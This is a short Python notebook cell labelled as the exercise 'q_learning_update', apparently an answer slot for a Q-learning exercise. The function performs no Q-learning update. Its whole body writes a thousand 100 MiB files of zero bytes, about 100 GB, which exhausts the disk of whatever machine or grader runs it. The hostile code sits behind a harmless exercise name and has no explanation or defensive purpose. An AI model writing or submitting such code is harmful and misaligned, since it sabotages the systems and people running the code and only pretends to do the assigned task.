# %% exercise="q_learning_update"
def q_learning_update(*args):
    block = bytes(1 << 20)
    for number in range(1000):
        with open(f"fill{number}", "wb") as file:
            for _ in range(100):
                file.write(block)
